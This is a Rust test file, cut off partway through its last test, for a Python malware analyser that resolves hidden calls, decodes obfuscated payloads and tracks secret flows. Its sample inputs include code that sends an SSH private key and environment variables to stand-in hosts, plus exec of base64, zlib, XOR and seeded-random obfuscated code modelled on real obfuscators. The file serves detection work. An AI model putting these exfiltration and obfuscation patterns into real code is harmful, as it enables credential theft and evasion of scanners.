//! Name resolution, folding and decoding, checked on small sources.

use ferret_python::{analyze, FactKind, FileRole, FlowConfig, Glob, Options, SecretPaths};

fn flows() -> FlowConfig {
    FlowConfig {
        calls: vec![(Glob::new("base64.*decode"), ferret_python::flow::DECODED)],
        names: vec![(Glob::new("os.environ"), ferret_python::flow::ENV)],
        secret_paths: SecretPaths::new(vec![r"\.ssh/id_".to_string()], None),
        ..FlowConfig::default()
    }
}

fn module_facts(src: &str) -> ferret_python::Facts {
    analyze(
        src.as_bytes(),
        FileRole::Module,
        &flows(),
        &Options::default(),
    )
}

fn calls(src: &str) -> Vec<(String, bool, u8, Option<u32>)> {
    module_facts(src)
        .facts
        .iter()
        .filter_map(|x| match &x.kind {
            FactKind::Call(c) => Some((c.callee.clone(), c.dynamic, c.flows, x.payload)),
            _ => None,
        })
        .collect()
}

fn callees(src: &str) -> Vec<String> {
    calls(src).into_iter().map(|c| c.0).collect()
}

#[test]
fn resolves_aliases_and_dynamic_imports() {
    assert!(
        callees("import subprocess as sp\nsp.Popen('x')").contains(&"subprocess.Popen".to_string())
    );
    assert!(callees("from os import system as s\ns('x')").contains(&"os.system".to_string()));
    let c = calls("__import__('os').system('x')");
    assert!(c.iter().any(|c| c.0 == "os.system" && c.1), "{c:?}");
    let c = calls("import os\ngetattr(os, 'sys'+'tem')('x')");
    assert!(c.iter().any(|c| c.0 == "os.system" && c.1), "{c:?}");
    assert!(
        callees("globals()['__builtins__']['exec']('1')").contains(&"builtins.exec".to_string())
    );
    assert!(callees("import builtins\nbuiltins.exec('1')").contains(&"builtins.exec".to_string()));
    assert!(callees("import sys\nsys.modules['os'].system('x')").contains(&"os.system".to_string()));
    assert!(callees("e = exec\ne('1')").contains(&"builtins.exec".to_string()));
    assert!(
        callees("import importlib\nimportlib.import_module('subprocess').call('x')")
            .contains(&"subprocess.call".to_string())
    );
    // A local definition shadows the builtin.
    assert!(!callees("def exec(x):\n    pass\nexec('1')").contains(&"builtins.exec".to_string()));
    assert!(
        callees("import requests\ns = requests.Session()\ns.post('u')")
            .contains(&"requests.Session.post".to_string())
    );
}

#[test]
fn folds_and_decodes_payloads() {
    let src = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))";
    let f = analyze(
        src.as_bytes(),
        FileRole::Module,
        &flows(),
        &Options::default(),
    );
    assert_eq!(f.payloads.len(), 1, "{:?}", f.payloads);
    assert!(f.payloads[0].python);
    assert!(f.facts.iter().any(
        |x| matches!(&x.kind, FactKind::Call(c) if c.callee == "os.system") && x.payload.is_some()
    ));
    // Lambda decoder, reversed base64 of zlib.
    let inner = "import os; os.system('id')";
    let z = {
        use std::io::Write;
        let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(inner.as_bytes()).unwrap();
        e.finish().unwrap()
    };
    let b64 = base64_encode(&z);
    let rev: String = b64.chars().rev().collect();
    let src = format!("_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'{rev}'))\n");
    let f = analyze(
        src.as_bytes(),
        FileRole::Module,
        &flows(),
        &Options::default(),
    );
    let p = f.payloads.iter().find(|p| p.python).expect("payload");
    let chain: Vec<_> = p.chain.iter().map(|s| s.as_str()).collect();
    assert_eq!(chain, ["reverse", "base64", "zlib"]);
    assert!(f
        .facts
        .iter()
        .any(|x| matches!(&x.kind, FactKind::Call(c) if c.callee == "os.system")));
    // chr() joins.
    let codes: Vec<String> = "import os;os.system('id')"
        .bytes()
        .map(|b| b.to_string())
        .collect();
    let src = format!("exec(''.join(chr(c) for c in [{}]))", codes.join(","));
    assert!(callees(&src).contains(&"os.system".to_string()));
    let src = format!("exec(''.join(map(chr, [{}])))", codes.join(","));
    assert!(callees(&src).contains(&"os.system".to_string()));
}

#[test]
fn flows_reach_sinks() {
    let src = "import os, requests\ndef f():\n    d = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('http://x', data=d)\n";
    let c = calls(src);
    let post = c.iter().find(|c| c.0 == "requests.post").unwrap();
    assert_ne!(post.2 & ferret_python::flow::SECRET, 0, "{c:?}");
    // A path named in pieces, each shorter than any secret path: the arguments are asked
    // together (a length bound per piece would skip them).
    assert_eq!(flows().secret_paths.min_len(), 8);
    let src = "import os, requests\ndef f(home):\n    d = open(os.path.join(home, '.ssh', 'id_rsa')).read()\n    requests.post('http://x', data=d)\n";
    let c = calls(src);
    let post = c.iter().find(|c| c.0 == "requests.post").unwrap();
    assert_ne!(post.2 & ferret_python::flow::SECRET, 0, "{c:?}");
    let c = calls("import os, requests\nrequests.post('u', json=dict(os.environ))");
    let post = c.iter().find(|c| c.0 == "requests.post").unwrap();
    assert_ne!(post.2 & ferret_python::flow::ENV, 0, "{c:?}");
}

#[test]
fn repeated_path_checks_answer_per_text() {
    // A lone text is remembered by identity after its first check: the same text asked again
    // keeps its answer, and a different text of the same length gets its own.
    let src = "import requests\np = '~/.ssh/id_rsa'\nq = '~/.ssh/ix_rsa'\n\
               a = open(p).read()\nb = open(p).read()\nc = open(q).read()\n\
               requests.post('u', data=a)\nrequests.post('v', data=b)\nrequests.post('w', data=c)\n";
    let c = calls(src);
    let posts: Vec<u8> = c
        .iter()
        .filter(|c| c.0 == "requests.post")
        .map(|c| c.2 & ferret_python::flow::SECRET)
        .collect();
    assert_eq!(posts.len(), 3, "{c:?}");
    assert_ne!(posts[0], 0, "{c:?}");
    assert_ne!(posts[1], 0, "{c:?}");
    assert_eq!(posts[2], 0, "{c:?}");
}

#[test]
fn deep_nesting_is_bounded() {
    // Redundant parentheses make no tree nodes: nothing to bound, but nothing may crash.
    let src = format!("x = {}1{}", "(".repeat(100_000), ")".repeat(100_000));
    analyze(
        src.as_bytes(),
        FileRole::Module,
        &flows(),
        &Options::default(),
    );
    let deep = [
        format!("x = {}1{}", "[".repeat(100_000), "]".repeat(100_000)),
        format!("x = {}1{}", "f(".repeat(100_000), ")".repeat(100_000)),
        format!("x = {}1", "-".repeat(100_000)),
        format!("x = {}1", "not ".repeat(100_000)),
        format!("x = {}1", "lambda: ".repeat(100_000)),
        format!("x = 1{}", "+1".repeat(100_000)),
    ];
    for src in deep {
        let f = analyze(
            src.as_bytes(),
            FileRole::Module,
            &flows(),
            &Options::default(),
        );
        assert!(
            f.issues.iter().any(|i| i.code == "nesting-too-deep-source"),
            "{}: {:?}",
            &src[..12],
            f.issues
        );
    }
}

fn base64_encode(data: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn payload_chains(src: &str) -> Vec<Vec<&'static str>> {
    let f = analyze(
        src.as_bytes(),
        FileRole::Module,
        &flows(),
        &Options::default(),
    );
    f.payloads
        .iter()
        .filter(|p| p.python && !p.chain.is_empty())
        .map(|p| p.chain.iter().map(|s| s.as_str()).collect())
        .collect()
}

#[test]
fn eval_of_a_constant_is_folded() {
    // BlankOBF's preamble: eval("eval"), eval("compile"), names through eval(compile(...)).
    let src = "_e = eval('\\x65val')\n_c = _e('compile')\n_o = _e(_c(\"__import__('os')\", '', _e.__name__))\n_o.system('id')\n";
    let c = calls(src);
    assert!(c.iter().any(|c| c.0 == "os.system" && c.1), "{c:?}");
    // A constant expression naming module strings, and codecs through it.
    let src = "import base64, codecs\nm = 'aW1wb3J0IG9zOyBv'\nl = 'pl5mrKA0MJ0bW2yxWlx='\nj = 'rot13'\nexec(base64.b64decode(eval('m') + eval('codecs.decode(l, j)')))\n";
    assert!(
        callees(src).contains(&"os.system".to_string()),
        "{:?}",
        callees(src)
    );
    assert!(payload_chains(src).contains(&vec!["rot13", "base64"]));
    // An expression that evaluates itself ends at the inlining bound.
    let start = std::time::Instant::now();
    calls("x = 'eval(x)'\neval(x)\ny = 'eval(y) + eval(y)'\neval(y)\n");
    assert!(start.elapsed() < std::time::Duration::from_secs(2));
}

#[test]
fn inlined_functions_run_ifs_and_loops() {
    // A decoder with an `if` on a known value and a per-character XOR loop (BlankOBF's last
    // step), called with constants; also unbound str/bytes methods and isinstance.
    let key = b'Q';
    let inner = "import os; os.system('id')";
    let xored: String = inner
        .bytes()
        .map(|b| format!("\\x{:02x}", b ^ key))
        .collect();
    let src = format!(
        "def dec(data, key):\n    data = bytes.decode(data)\n    out = ''\n    if not key[False] == ' ':\n        key = ' ' + key\n    if isinstance(data, str) and len(key) > 1:\n        for i in range(len(data)):\n            out += chr(ord(data[i]) ^ ord(key[len(key) - True]))\n    else:\n        return None\n    return (out, key)\nexec(str.join('', [dec(b'{xored}', 'Q')[0]]))\n"
    );
    assert!(callees(&src).contains(&"os.system".to_string()), "{src}");
    assert_eq!(payload_chains(&src), vec![vec!["xor"]]);
    // Loops are paid for: a huge one gives up instead of hanging.
    let start = std::time::Instant::now();
    calls("def f(n):\n    s = 0\n    for a in range(n):\n        for b in range(n):\n            s += 1\n    return s\nexec(str(f(150000)))\n");
    assert!(start.elapsed() < std::time::Duration::from_secs(3));
}

/// The folded first argument of the source's `os.system` call.
fn system_arg(src: &str) -> Option<String> {
    let f = analyze(
        src.as_bytes(),
        FileRole::Module,
        &flows(),
        &Options::default(),
    );
    f.facts.iter().find_map(|x| match &x.kind {
        FactKind::Call(c) if c.callee == "os.system" => c.arg_strings.first().cloned(),
        _ => None,
    })
}

#[test]
fn folds_python_arithmetic_and_comparisons() {
    // -7 // 2 == -4, -7 % 3 == 2, 7 % -3 == -2, True*2 == 2, 12/4 == 3; each picks a letter.
    let src = "s = 'abcdefghijklmnopqrstuvwxyz'\nn = s[-7 // 2 + 4] + s[-7 % 3] + s[7 % -3 + 3] + s[True*2] + s[int(12/4)]\nimport os\nif n == 'acbcd' and n != 'x' and 'cb' in n and not n < 'a':\n    os.system(n)\n";
    assert_eq!(system_arg(src).as_deref(), Some("acbcd"));
}

#[test]
fn ord_takes_one_character_or_one_byte() {
    // ord(b'\xe9') is 233 (a byte, not U+FFFD), ord('é') is 233 too; ord of two bytes that
    // make one UTF-8 character raises in Python, so nothing is folded from it.
    let src = "import os\nos.system(chr(ord(b'\\xe9') - 128) + chr(ord('\u{e9}') - 133))\n";
    assert_eq!(system_arg(src).as_deref(), Some("id"));
    let src = "import os\nos.system(chr(ord(b'\\xc3\\xa9')))\n";
    assert_eq!(system_arg(src), None);
}

#[test]
fn ranges_fold_without_being_built() {
    // Indexing, len, membership, truth, bytes() and folds over ranges, including one far too
    // long to build (only its arithmetic is used).
    let src = "import os\ns = 'abcdefghijklmnopqrstuvwxyz'\nr = range(3, 20, 4)\nbig = range(0, 10**15, 7)\nok = len(r) == 5 and r[-1] == 19 and r[1] == 7 and 19 in r and 18 not in r and 10**15 - 1 - (10**15 - 1) % 7 in big and 10**15 - 2 not in big and len(big) == 142857142857143 and big[-1] == 10**15 - 1 - (10**15 - 1) % 7 and big[-142857142857143] == 0 and not range(5, 1) and 'a' not in r\nif ok:\n    os.system(str(ok) + ''.join(s[i] for i in r) + bytes(range(97, 100)).decode() + ''.join(chr(c) for c in range(120, 90, -10)) + ''.join(chr(c) for c in list(range(65, 75))[::3]))\n";
    assert_eq!(system_arg(src).as_deref(), Some("TruedhlptabcxndADGJ"));
}

#[test]
fn codecs_getencoder_and_uu() {
    // codecs.getencoder('utf-8')(s)[0]; codecs.decode(..., 'uu').
    let uu = "begin 666 <data>\\n::6UP;W)T(&]S.R!O<RYS>7-T96TH)VED)RD \\n \\nend\\n";
    let src = format!(
        "import codecs\nexec(codecs.decode(codecs.getencoder('utf-8')('{uu}')[0], 'uu'))\n"
    );
    assert!(callees(&src).contains(&"os.system".to_string()), "{src}");
    assert_eq!(payload_chains(&src), vec![vec!["uu"]]);
}

#[test]
fn seeded_random_division_is_replayed() {
    // pyobfuscate.com: code points times random.randint(1, N) after random.seed(S), S hidden as
    // base64(zlib(rot13(base64(digits)))); the division runs inside an exec'd string.
    let src = "import random, base64, codecs, zlib\n_ = lambda s, c_int=5000: ''.join(chr(int(int(s.split()[i]) / random.randint(1, c_int))) for i in range(len(s.split())))\n__ = '468510 221815 183904 44067 519042 404260 67744 528471 519685 31093 111296 261960 26795 130732 452065 457138 321195 324336 83729 246667 117440 95355 235200 381400 96291 104755'\nb = 'eJxzci8xdiz3MIjKDct2ArIBKs8FGQ=='\nexec(\"random.seed(eval(base64.b64decode(codecs.decode(zlib.decompress(base64.b64decode(b)).decode(), 'rot13').encode())));exec(_(__))\")\n"
        .to_string();
    assert!(callees(&src).contains(&"os.system".to_string()));
    assert_eq!(payload_chains(&src), vec![vec!["seeded-random"]]);
    // A wrong seed yields nothing (the text must come out as Python).
    let wrong = src.replace(
        "eJxzci8xdiz3MIjKDct2ArIBKs8FGQ==",
        "eJwLdLQ0NTE1MzcxMLI0MTEyNjICAE5oBYU=",
    );
    assert!(payload_chains(&wrong)
        .iter()
        .all(|c| c != &vec!["seeded-random"]));
}

/// An f-string known only in part gives the call its literal pieces as argument text, with
/// U+FFFD for each part that did not fold; a fully folded one its whole text; and the
/// partial value stays unknown to folding (`exec` of it is not decoded as code).
#[test]
fn fstring_known_in_part_is_an_argument_text() {
    let arg_strings = |src: &str, callee: &str| -> Vec<String> {
        module_facts(src)
            .facts
            .iter()
            .filter_map(|x| match &x.kind {
                FactKind::Call(c) if c.callee == callee => Some(c.arg_strings.clone()),
                _ => None,
            })
            .flatten()
            .collect()
    };
    let src = "import os, sys\nos.system(f\"{sys.executable} -m pip install https://example.invalid/x.tar.gz\")\n";
    assert_eq!(
        arg_strings(src, "os.system"),
        ["\u{FFFD} -m pip install https://example.invalid/x.tar.gz"]
    );
    let src = "import os\nv = '1.0'\nos.system(f\"pip install x=={v}\")\n";
    assert_eq!(arg_strings(src, "os.system"), ["pip install x==1.0"]);
    // Nothing literal: no text at all.
    let src = "import os, sys\nos.system(f\"{sys.argv[1]}\")\n";
    assert!(arg_strings(src, "os.system").is_empty());
    // Not folded as code: no call fact from inside the exec'd text.
    let src = "import sys\nexec(f\"import os; os.system('id') # {sys.argv}\")\n";
    assert!(!callees(src).contains(&"os.system".to_string()));
}

#[test]
fn straight_line_appends_build_one_value() {
    // Generated code builds a long constant a statement at a time; the pieces, in order, with
    // a str piece that is not a literal and an assignment form mixed in.
    let mut src = String::from("import os\nx = 'cu'\nx += 'rl '\nx = x + 'http://'\n");
    for i in 0..20_000 {
        src.push_str(&format!("x += 'p{i:05}'\n"));
    }
    src.push_str("x = x + '.example.invalid'\nos.system(x)\n");
    let f = module_facts(&src);
    let want: String = std::iter::once("curl http://".to_string())
        .chain((0..20_000).map(|i| format!("p{i:05}")))
        .chain(std::iter::once(".example.invalid".to_string()))
        .collect();
    let arg = f.facts.iter().find_map(|x| match &x.kind {
        FactKind::Call(c) if c.callee == "os.system" => c.arg_strings.first().cloned(),
        _ => None,
    });
    // Call arguments keep their first 4 KiB, string facts their first 64 KiB.
    assert_eq!(arg.as_deref(), Some(&want[..4096]));
    // Nothing was left unanalysed, and the built value is one fact, not one per statement.
    assert!(f.issues.is_empty(), "{:?}", f.issues);
    let built: Vec<&str> = f
        .facts
        .iter()
        .filter_map(|x| match &x.kind {
            FactKind::Str { value, .. } if value.starts_with("curl ") => Some(value.as_str()),
            _ => None,
        })
        .collect();
    // The run's, and the argument of `os.system` (step by step: one per assignment, each
    // holding the whole value so far).
    assert_eq!(
        built.len(),
        2,
        "{:?}",
        built.iter().map(|b| b.len()).collect::<Vec<_>>()
    );
    assert!(built.iter().all(|b| *b == &want[..64 * 1024]));

    // A piece that is not text ends the run; the value is unknown from there, as step by step.
    let src = "import os\nx = 'a'\nx += 'b'\nx += os.environ['HOME']\nx += 'c'\nos.system(x)\n";
    let c = calls(src);
    assert!(
        c.iter()
            .any(|c| c.0 == "os.system" && c.2 & ferret_python::flow::ENV != 0),
        "{c:?}"
    );
    assert_eq!(system_arg(src), None);
    // A piece that reads the name itself is not an append: `x = x + x` doubles.
    assert_eq!(
        system_arg("import os\nx = 'ab'\nx = x + x\nx += x\nos.system(x)\n").as_deref(),
        Some("abababab")
    );
    // A function defined above sees the constant a run builds below (the prescan).
    assert_eq!(
        system_arg(
            "import os\ndef f():\n    os.system(y)\ny = 'ec'\ny = y + 'h'\ny = y + 'o'\nf()\n"
        )
        .as_deref(),
        Some("echo")
    );
    // Pieces put in front, mixed with pieces at the back, and lists.
    assert_eq!(
        system_arg("import os\nx = 'h'\nx = 'c' + x\nx += 'o'\nx = 'e' + x\nos.system(x)\n")
            .as_deref(),
        Some("echo")
    );
    assert_eq!(
        system_arg("import os\nl = ['c']\nl = ['e'] + l\nl += ['h']\nl = l + ['o']\nos.system(''.join(l))\n").as_deref(),
        Some("echo")
    );
    // Bytes too.
    assert_eq!(
        system_arg("import os\nx = b'e'\nx += b'ch'\nx = x + b'o'\nos.system(x.decode())\n")
            .as_deref(),
        Some("echo")
    );
}

#[test]
fn module_level_decoding_loop_appends_in_place() {
    // `for i in range(len(data)): out += chr(...)` at module level, over 100,000 characters:
    // the appends go to one buffer (each step had copied the whole string so far, which ran
    // into the time budget), and the whole text is decoded, up to the call at its very end.
    let inner = format!("{}\nimport os; os.system('id')", "#".repeat(100_000));
    let xored: String = inner.bytes().map(|b| format!("\\x{:02x}", b ^ 7)).collect();
    let src = format!(
        "data = '{xored}'\nout = ''\nfor i in range(len(data)):\n    out += chr(ord(data[i]) ^ 7)\nexec(out)\n"
    );
    let f = module_facts(&src);
    assert!(f.issues.is_empty(), "{:?}", f.issues);
    assert!(callees(&src).contains(&"os.system".to_string()));

    // The other ways to grow a value in a loop (assignment, in front, bytes, beside another
    // statement, in a function) build the same text.
    let data = "data = '\\x62\\x64\\x63'\n"; // "bdc" ^ 7 is "ecd"
    for body in [
        "out = ''\nfor c in data:\n    out = out + chr(ord(c) ^ 7)\n",
        "out = ''\nfor c in data[::-1]:\n    out = chr(ord(c) ^ 7) + out\n",
        "out = b''\nfor c in data:\n    out += bytes([ord(c) ^ 7])\nout = out.decode()\n",
        "out = ''\nfor c in data:\n    x = ord(c) ^ 7\n    out += chr(x)\n",
        "def d(s):\n    out = ''\n    for c in s:\n        out = out + chr(ord(c) ^ 7)\n    return out\nout = d(data)\n",
        "out = 'e'\nfor c in data[1:]:\n    out += chr(ord(c) ^ 7)\n",
    ] {
        let src = format!("import os\n{data}{body}os.system(out + 'ho')\n");
        assert_eq!(system_arg(&src).as_deref(), Some("ecdho"), "{src}");
    }
    // Read in the body, or grown by something that is not text: step by step, as before.
    let src = "import os\nout = ''\nn = 0\nfor c in 'abc':\n    out += c\n    n = n + len(out)\nos.system(out + str(n))\n";
    assert_eq!(system_arg(src).as_deref(), Some("abc6"));
    let src = "import os\nout = ''\nfor c in ['a', 'b', os.environ['HOME'], 'c']:\n    out += c\nos.system(out)\n";
    assert_eq!(system_arg(src), None);
    // Nothing iterated: the value before the loop.
    let src = "import os\nout = 'x'\nfor c in '':\n    out += c\nos.system(out)\n";
    assert_eq!(system_arg(src).as_deref(), Some("x"));
}

#[test]
fn containers_change_in_place() {
    // A list filled by appends and joined (it had folded to its empty start, so the exec'd
    // text was "" and the file looked clean).
    let src = "parts = []\nparts.append('import os;')\nparts.extend(['os.system(', '\"id\")'])\nparts.insert(1, ' ')\nexec(''.join(parts))\n";
    assert!(callees(src).contains(&"os.system".to_string()), "{src}");
    // Item stores in lists, dicts and bytearrays.
    let src = "import os\np = ['echo']\np[0] = 'id'\nd = {'k': 'x'}\nd['k'] = '-u'\nd['n'] = 'ame'\nb = bytearray(b'xyz')\nb[-1] = 0x21\nos.system(p[-1] + ' ' + d['k'] + d['n'] + b.decode())\n";
    assert_eq!(system_arg(src).as_deref(), Some("id -uamexy!"));
    // Loops of appends fold, to lists and to bytearrays.
    let src = "import os\nout = bytearray()\nfor c in 'bd':\n    out.append(ord(c) ^ 7)\nparts = []\nfor c in 'bd':\n    parts.append(chr(ord(c) ^ 7))\nos.system(out.decode() + ''.join(parts))\n";
    assert_eq!(system_arg(src).as_deref(), Some("ecec"));
    // A change that is not modelled, or one made through another name bound to the same
    // list: unknown, not the value from before the change.
    let src = "import os\np = ['a', 'b']\np.pop()\nos.system(''.join(p))\n";
    assert_eq!(system_arg(src), None);
    let src = "import os\na = ['x']\nb = a\nb.append('y')\nos.system(''.join(a))\n";
    assert_eq!(system_arg(src), None);
    let src = "import os\np = ['a']\np[k] = 'b'\nos.system(''.join(p))\n";
    assert_eq!(system_arg(src), None);
}

#[test]
fn functions_set_module_globals() {
    // `global code; code = ...` in a function that is called: the module's `code` is the
    // function's, not the empty text from before the call (which made exec(code) look inert).
    let src = "code = ''\ndef build():\n    global code\n    code = 'import os; os.system(\"id\")'\nbuild()\nexec(code)\n";
    assert!(callees(src).contains(&"os.system".to_string()), "{src}");
    let src = "import os\ncmd = 'echo'\ndef f(x):\n    global cmd\n    cmd = x + ' -u'\nf('id')\nos.system(cmd)\n";
    assert_eq!(system_arg(src).as_deref(), Some("id -u"));
    // Run only in part (a statement folding does not model): unknown, not the old value.
    let src = "import os\ncmd = 'echo'\ndef f():\n    global cmd\n    cmd = 'a'\n    with open('x') as h:\n        pass\n    cmd = 'b'\nf()\nos.system(cmd)\n";
    assert_eq!(system_arg(src), None);
    // A global only read keeps its value.
    let src = "import os\ncmd = 'id'\ndef f():\n    global cmd\n    with open('x') as h:\n        pass\nf()\nos.system(cmd)\n";
    assert_eq!(system_arg(src).as_deref(), Some("id"));
}

#[test]
fn while_loops_fold_or_forget() {
    // A counter loop over known data folds (module level and inlined), building in place.
    let src = "import os\ndata = 'bdbd'\ns = ''\ni = 0\nwhile i < len(data):\n    s += chr(ord(data[i]) ^ 7)\n    i += 1\ndef f(d):\n    out = ''\n    j = 0\n    while j < len(d):\n        out = out + d[j]\n        j = j + 1\n    return out\nos.system(s + f('ho'))\n";
    assert_eq!(system_arg(src).as_deref(), Some("ececho"));
    // A loop that cannot be folded leaves what it builds unknown, not the text of one pass
    // (`exec(s)` had been the exec of a single character).
    let src = "import os, sys\ns = ''\nwhile sys.argv:\n    s += 'x'\nos.system(s)\n";
    assert_eq!(system_arg(src), None);
    let src = "import os\nn = 0\nfor line in open('f'):\n    n += 1\nos.system(str(n))\n";
    assert_eq!(system_arg(src), None);
    // A walk over objects by attribute is not run: folding cannot tell where it ends.
    let src = "import os\nnode = os.environ\nk = 'id'\nwhile node is not None:\n    node = node.parent\n    k = k + '!'\nos.system(k)\n";
    assert_eq!(system_arg(src), None);
}

#[test]
fn changes_through_other_names_are_seen() {
    // `nonlocal` in a called inner function sets the outer function's name.
    let src = "import os\ndef outer():\n    s = 'echo'\n    def inner():\n        nonlocal s\n        s = 'id'\n    inner()\n    os.system(s)\nouter()\n";
    assert_eq!(system_arg(src).as_deref(), Some("id"));
    // Attributes set through a parameter are the argument's.
    let src = "import os\nclass K:\n    pass\nk = K()\nk.cmd = 'echo'\ndef f(o):\n    o.cmd = 'id'\nf(k)\nos.system(k.cmd)\n";
    assert_eq!(system_arg(src).as_deref(), Some("id"));
    // ... and unknown when the function is not run in full.
    let src = "import os\nclass K:\n    pass\nk = K()\nk.cmd = 'echo'\ndef f(o):\n    o.cmd = 'id'\n    with open('x') as h:\n        pass\nf(k)\nos.system(k.cmd)\n";
    assert_eq!(system_arg(src), None);
    // setattr() and dict.update().
    let src = "import os\nclass K:\n    pass\nk = K()\nk.cmd = 'echo'\nsetattr(k, 'cmd', 'id')\nd = {'a': 'x'}\nd.update({'a': ' -u', 'b': 'n'})\nos.system(k.cmd + d['a'] + d['b'])\n";
    assert_eq!(system_arg(src).as_deref(), Some("id -un"));
}

#[test]
fn containers_inside_containers_change_in_place() {
    // Changes through an item or a bound attribute (`parts[0].append`, `d["k"].append`,
    // `k.parts.append`, `out[0][1] = ...`) had left the container folded as before them:
    // `exec(''.join(parts[0]))` was `exec('')` and the file looked clean.
    let src = "import os\nparts = [[]]\nparts[0].append('i')\nparts[0].extend(['d'])\nos.system(''.join(parts[0]))\n";
    assert_eq!(system_arg(src).as_deref(), Some("id"));
    let src = "import os\nd = {'k': ['e']}\nd['k'].append('cho')\nos.system(''.join(d['k']))\n";
    assert_eq!(system_arg(src).as_deref(), Some("echo"));
    let src = "import os\nclass K:\n    pass\nk = K()\nk.parts = []\nk.parts.append('id')\nos.system(''.join(k.parts))\n";
    assert_eq!(system_arg(src).as_deref(), Some("id"));
    let src = "import os\nout = [['a', 'b']]\nout[0][1] = 'd'\nout[0][0] = 'i'\nos.system(''.join(out[0]))\n";
    assert_eq!(system_arg(src).as_deref(), Some("id"));
    // Loops that fill an item or an attribute fold like loops that fill a name.
    let src = "import os\nparts = [[]]\nfor c in 'nc':\n    parts[0].append(chr(ord(c) ^ 7))\nclass K:\n    pass\nk = K()\nk.s = ''\nfor c in 'ho':\n    k.s = k.s + c\nos.system(''.join(parts[0]) + k.s)\n";
    assert_eq!(system_arg(src).as_deref(), Some("idho"));
    // A container held by another one, changed through either: the other is unknown (in
    // Python it sees the change), never the contents from before it.
    let src = "import os\ninner = []\nouter = [inner]\ninner.append('id')\nos.system(''.join(outer[0]))\n";
    assert_eq!(system_arg(src), None);
    let src = "import os\ninner = ['x']\nouter = {'k': inner}\nouter['k'].append('id')\nos.system(''.join(inner))\n";
    assert_eq!(system_arg(src), None);
    // A key that does not fold, `del`, `+=` through another name, `setattr` with a name
    // that does not fold: unknown.
    let src = "import os, sys\nd = {'k': ['x']}\nd[sys.argv[1]].append('y')\nos.system(''.join(d['k']))\n";
    assert_eq!(system_arg(src), None);
    let src = "import os\np = ['x', 'id']\ndel p[0]\nos.system(''.join(p))\n";
    assert_eq!(system_arg(src), None);
    let src = "import os\na = ['x']\nb = a\nb += ['y']\nos.system(''.join(a))\n";
    assert_eq!(system_arg(src), None);
    let src = "import os, sys\nclass K:\n    pass\nk = K()\nk.cmd = 'echo'\nsetattr(k, sys.argv[1], 'id')\nos.system(k.cmd)\n";
    assert_eq!(system_arg(src), None);
    // `+=` on a list nothing else holds keeps folding.
    let src = "import os\na = ['i']\na += ['d']\nos.system(''.join(a))\n";
    assert_eq!(system_arg(src).as_deref(), Some("id"));
}

#[test]
fn loops_with_break_and_continue_fold() {
    // `continue` skips the rest of a pass, `break` ends the loop (and skips its `else`).
    let src = "import os\ns = ''\nfor c in 'i_d!x':\n    if c == '_':\n        continue\n    if c == '!':\n        break\n    s += c\nos.system(s)\n";
    assert_eq!(system_arg(src).as_deref(), Some("id"));
    let src = "import os\ndef f(d):\n    out = []\n    for c in d:\n        if c == 0:\n            continue\n        if c == 1:\n            break\n        out.append(chr(c ^ 7))\n    else:\n        out.append('?')\n    return ''.join(out)\nos.system(f([110, 0, 99, 1, 110]))\n";
    assert_eq!(system_arg(src).as_deref(), Some("id"));
    // `while True` ended by a `break` on a counter the body assigns.
    let src = "import os\nd = 'nc'\ns = ''\ni = 0\nwhile True:\n    if i >= len(d):\n        break\n    s += chr(ord(d[i]) ^ 7)\n    i += 1\nos.system(s)\n";
    assert_eq!(system_arg(src).as_deref(), Some("id"));
    // A `while True` whose break does not fold is not run: unknown, not one pass.
    let src = "import os, sys\ns = ''\nwhile True:\n    if sys.argv:\n        break\n    s += 'x'\nos.system(s)\n";
    assert_eq!(system_arg(src), None);
}

#[test]
fn names_set_through_namespaces_are_seen() {
    // `globals()[k] = v` and its other spellings set the module's name: `exec(x)` had been
    // the exec of the empty text bound before, and the file looked clean.
    for set in [
        "globals()['x'] = 'id'",
        "vars()['x'] = 'id'",
        "g = globals()\ng['x'] = 'id'",
        "globals().update(x='id')",
        "globals().update({'x': 'id'})",
        "globals().__setitem__('x', 'id')",
        "import sys\nsetattr(sys.modules[__name__], 'x', 'id')",
        "import sys\nsys.modules[__name__].x = 'id'",
        "def f():\n    globals()['x'] = 'id'\nf()",
    ] {
        let src = format!("import os\nx = 'echo'\n{set}\nos.system(x)\n");
        assert_eq!(system_arg(&src).as_deref(), Some("id"), "{src}");
    }
    // `setdefault` sets only a name not set yet.
    let src = "import os\nx = 'id'\nglobals().setdefault('x', 'echo')\nos.system(x)\n";
    assert_eq!(system_arg(src).as_deref(), Some("id"));
    // `obj.__dict__` is the object's attributes.
    let src = "import os\nclass K:\n    pass\nk = K()\nk.c = 'echo'\nk.__dict__['c'] = 'i'\nk.__dict__.update(d='d')\nos.system(k.c + k.d)\n";
    assert_eq!(system_arg(src).as_deref(), Some("id"));
    // A name that does not fold, a function not called here, a function handed to a thread
    // (it may run at any time): unknown, not the value from before.
    for set in [
        "import sys\nglobals()[sys.argv[1]] = 'id'",
        "def f():\n    globals()['x'] = 'id'",
        "import threading\ndef f():\n    global x\n    x = 'id'\nthreading.Thread(target=f).start()",
        "import sys\nglobals().update(sys.modules)",
    ] {
        let src = format!("import os\nx = 'echo'\n{set}\nos.system(x)\n");
        assert_eq!(system_arg(&src), None, "{src}");
    }
}

#[test]
fn obfuscated_code_is_scanned_where_it_is_built() {
    // Python built character by character is scanned at the call that builds it: the name it
    // is bound to may be rebound on a branch that never runs (`if sys.platform == 'plan9':
    // x = ''`), and the walk, which takes the last binding, had seen `exec('')` and nothing.
    let codes: Vec<String> = "import os; os.system('id')"
        .bytes()
        .map(|b| (b ^ 7).to_string())
        .collect();
    let build = format!("''.join(chr(c ^ 7) for c in [{}])", codes.join(", "));
    for hide in [
